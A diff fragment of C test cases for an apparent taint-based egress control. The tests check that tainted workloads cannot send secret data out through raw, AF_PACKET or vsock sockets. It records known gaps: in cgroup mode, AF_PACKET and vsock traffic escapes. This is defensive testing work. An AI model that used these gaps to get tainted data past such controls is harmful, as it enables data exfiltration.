+	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_INET,
+				   .type = SOCK_RAW, .proto = IPPROTO_UDP, .magic = MAGIC));
+	EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_INET6,
+				   .type = SOCK_RAW, .proto = IPPROTO_UDP));
+	EXPECT_FALSE(sniffed(sniff, MAGIC));
+	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
+	EXPECT_TRUE(HAS_EVENT(&self->n, "\"type\":\"socket\"", "\"decision\":\"deny\"",
+			      "\"workload\":\"wl\""));
+	/* An untainted workload still may. */
+	EXPECT_EQ(0, RAW(&self->n, self->n.wl2_cg, .family = AF_INET6, .type = SOCK_RAW,
+			 .proto = IPPROTO_UDP));
+	close(sniff);
+}
+
+/*
+ * A raw socket opened before the taint: its IP packets pass the egress
+ * program (cgroup_skb), and in lsm mode socket_sendmsg, on the way out.
+ */
+TEST_F_TIMEOUT(node, a_raw_socket_opened_before_the_taint_sends_nothing_out, 180)
+{
+	int sniff = out_sniffer(&self->n);
+
+	ASSERT_LE(0, sniff);
+	RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"), .open_before_taint = 1,
+	    .family = AF_INET, .type = SOCK_RAW, .proto = IPPROTO_RAW, .magic = MAGIC);
+	EXPECT_STREQ("phi", taint_of(&self->n, "wl"));
+	EXPECT_FALSE(sniffed(sniff, MAGIC));
+	close(sniff);
+}
+
+/*
+ * AF_PACKET: lsm mode refuses the socket (socket_create); cgroup mode has
+ * no hook that sees it (cgroup/sock_create runs for inet sockets only), so
+ * the frame gets out: the listed gap, whose mitigation is trustctl run
+ * (no CAP_NET_RAW).
+ */
+TEST_F_TIMEOUT(node, packet_sockets_are_refused_in_lsm_mode_and_a_listed_gap_otherwise, 180)
+{
+	int sniff = out_sniffer(&self->n), rc;
+
+	ASSERT_LE(0, sniff);
+	ASSERT_TRUE(node_lsm_mode(&self->n) || !lsm_expected());
+	rc = RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
+		 .family = AF_PACKET, .type = SOCK_DGRAM, .proto = htons(ETH_P_IP),
+		 .magic = MAGIC);
+	if (node_lsm_mode(&self->n)) {
+		EXPECT_EQ(100 + EPERM, rc);
+		EXPECT_FALSE(sniffed(sniff, MAGIC));
+		EXPECT_EQ(100 + EPERM, RAW(&self->n, self->n.wl_cg, .family = AF_PACKET,
+					   .type = SOCK_RAW, .proto = htons(ETH_P_ALL)));
+	} else {
+		EXPECT_EQ(0, rc);
+		EXPECT_TRUE(sniffed(sniff, MAGIC));
+		EXPECT_TRUE(gap_listed(&self->n, "AF_PACKET"));
+	}
+	close(sniff);
+}
+
+TEST_F_TIMEOUT(node, vsock_sockets_are_refused_in_lsm_mode_and_a_listed_gap_otherwise, 180)
+{
+	int rc;
+
+	ASSERT_TRUE(node_lsm_mode(&self->n) || !lsm_expected());
+	rc = RAW(&self->n, self->n.wl_cg, .secret = data(&self->n, "secret"),
+		 .family = AF_VSOCK, .type = SOCK_STREAM);
+	if (node_lsm_mode(&self->n)) {
+		EXPECT_EQ(100 + EPERM, rc);
+	} else {
+		/* Made, or this kernel has no vsock transport: not refused. */
+		EXPECT_NE(100 + EPERM, rc);
+		EXPECT_TRUE(gap_listed(&self->n, "AF_VSOCK"));
+	}
+}
 
 TEST_HARNESS_MAIN
